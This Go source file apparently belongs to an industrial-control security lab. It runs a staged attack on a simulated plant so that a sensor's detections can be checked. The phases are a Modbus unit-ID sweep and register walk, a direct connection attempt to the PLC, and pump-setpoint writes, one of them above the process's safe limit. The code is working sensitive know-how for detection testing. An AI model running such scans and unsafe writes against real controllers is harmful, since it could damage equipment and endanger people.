package campaign

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"time"

	"github.com/otlake/cloud-telemetry-lake/sensor/plant"
)

// Attack parameters. The counts exceed the lab policy's scan thresholds (8 unit IDs, 32
// read addresses, 10 exceptions within 60 s) with room to spare.
const (
	sweepFirstUnit = 2
	sweepUnits     = 16
	walkAddresses  = 40
	// UnauthorizedSetpoint is a pump speed within the safe range, written by a client the
	// policy does not trust.
	UnauthorizedSetpoint = 1200
	// UnsafeSetpoint is a pump speed the PLC accepts but the process cannot take.
	UnsafeSetpoint = 2900
)

// Campaign is the attack, run from the enterprise workstation the gateway forwards.
type Campaign struct {
	Net   Network
	Clock Clock
	// Out receives one progress line per phase start and end.
	Out io.Writer
	// Conduit is the gateway's Modbus port forward; PLC is the PLC itself, which the
	// firewall must not let the attacker reach.
	Conduit netip.AddrPort
	PLC     netip.AddrPort
	// DirectTimeout is the time the direct connection attempt waits for a response.
	DirectTimeout time.Duration
	// RequestGap is the pause between two reconnaissance requests; PhaseGap between phases.
	RequestGap time.Duration
	PhaseGap   time.Duration
}

// NewCampaign returns the lab's campaign with its default addresses and timing.
func NewCampaign(net Network, clock Clock, out io.Writer) *Campaign {
	return &Campaign{
		Net:           net,
		Clock:         clock,
		Out:           out,
		Conduit:       netip.AddrPortFrom(GatewayITAddr, ModbusPort),
		PLC:           netip.AddrPortFrom(PLCAddr, ModbusPort),
		DirectTimeout: 2 * time.Second,
		RequestGap:    20 * time.Millisecond,
		PhaseGap:      500 * time.Millisecond,
	}
}

// Phase is one step of the campaign and the detection the sensor should raise for it.
type Phase struct {
	Name   string
	Expect string
	run    func(c *Campaign, ctx context.Context) (string, error)
}

// Phases returns the campaign's phases in order.
func Phases() []Phase {
	return []Phase{
		{"reconnaissance", "OT_BRUTE_FORCE_SCAN", (*Campaign).reconnoitre},
		{"direct access", "CROSS_ZONE_VIOLATION", (*Campaign).connectDirect},
		{"unauthorized setpoint write", "UNAUTHORIZED_MODBUS_WRITE", (*Campaign).writeSetpoint},
		{"unsafe setpoint write", "PROCESS_SAFETY_VIOLATION", (*Campaign).writeUnsafe},
	}
}

// Run runs every phase in order and prints each one's start and result with its time.
// It stops at the first phase that fails.
func (c *Campaign) Run(ctx context.Context) error {
	phases := Phases()
	for i, p := range phases {
		if i > 0 {
			if err := c.Clock.Sleep(ctx, c.PhaseGap); err != nil {
				return err
			}
		}

		c.printf("phase %d/%d %s: start (expect %s)", i+1, len(phases), p.Name, p.Expect)
		result, err := p.run(c, ctx)
		if err != nil {
			c.printf("phase %d/%d %s: failed: %v", i+1, len(phases), p.Name, err)
			return fmt.Errorf("phase %q: %w", p.Name, err)
		}
		c.printf("phase %d/%d %s: done: %s", i+1, len(phases), p.Name, result)
	}
	return nil
}

func (c *Campaign) printf(format string, args ...any) {
	stamp := c.Clock.Now().UTC().Format("2006-01-02T15:04:05.000Z")
	fmt.Fprintf(c.Out, "%s "+format+"\n", append([]any{stamp}, args...)...)
}

// reconnoitre sweeps unit IDs, reads the device identification and walks the holding
// registers through the conduit, drawing exception responses.
func (c *Campaign) reconnoitre(ctx context.Context) (string, error) {
	s, err := c.Net.Dial(ctx, c.Conduit, c.DirectTimeout)
	if err != nil {
		return "", err
	}
	defer s.Close()

	var requests, exceptions int
	send := func(unit uint8, pdu []byte) error {
		resp, err := s.Exchange(ctx, unit, pdu)
		if err != nil {
			return err
		}
		requests++
		if IsException(resp) {
			exceptions++
		}
		return c.Clock.Sleep(ctx, c.RequestGap)
	}

	// Unit-ID sweep: one holding register read per unit.
	for unit := sweepFirstUnit; unit < sweepFirstUnit+sweepUnits; unit++ {
		if err := send(uint8(unit), ReadPDU(FuncReadHoldingRegisters, 0, 1)); err != nil {
			return "", err
		}
	}

	// Device identification, then a walk over holding register addresses on the PLC's unit.
	if err := send(plant.UnitID, DeviceIDPDU()); err != nil {
		return "", err
	}
	for addr := range walkAddresses {
		if err := send(plant.UnitID, ReadPDU(FuncReadHoldingRegisters, uint16(addr), 1)); err != nil {
			return "", err
		}
	}
	return fmt.Sprintf("%d requests to %s, %d exception responses", requests, c.Conduit, exceptions), nil
}

// connectDirect tries to reach the PLC without the conduit; the gateway must drop it.
func (c *Campaign) connectDirect(ctx context.Context) (string, error) {
	s, err := c.Net.Dial(ctx, c.PLC, c.DirectTimeout)
	if err == nil {
		s.Close()
		return "", fmt.Errorf("connect %s: %w", c.PLC, errFirewallOpen)
	}
	if !IsTimeout(err) {
		return "", err
	}
	return fmt.Sprintf("connection to %s timed out after %s: dropped by the gateway", c.PLC, c.DirectTimeout), nil
}

var errFirewallOpen = errors.New("connected, but the gateway firewall should drop this flow")

func (c *Campaign) writeSetpoint(ctx context.Context) (string, error) {
	return c.writePump(ctx, UnauthorizedSetpoint)
}

func (c *Campaign) writeUnsafe(ctx context.Context) (string, error) {
	return c.writePump(ctx, UnsafeSetpoint)
}

// writePump writes the pump speed setpoint through the conduit and checks the echo.
func (c *Campaign) writePump(ctx context.Context, rpm uint16) (string, error) {
	s, err := c.Net.Dial(ctx, c.Conduit, c.DirectTimeout)
	if err != nil {
		return "", err
	}
	defer s.Close()

	resp, err := s.Exchange(ctx, plant.UnitID, WriteRegisterPDU(plant.RegPumpSetpoint, rpm))
	if err != nil {
		return "", err
	}
	if IsException(resp) {
		return "", fmt.Errorf("write pump setpoint %d: exception %#02x", rpm, ExceptionCode(resp))
	}
	return fmt.Sprintf("pump speed setpoint %d rpm written to unit %d register %d (safe limit %d rpm)",
		rpm, plant.UnitID, plant.RegPumpSetpoint, plant.SafePumpRPM), nil
}
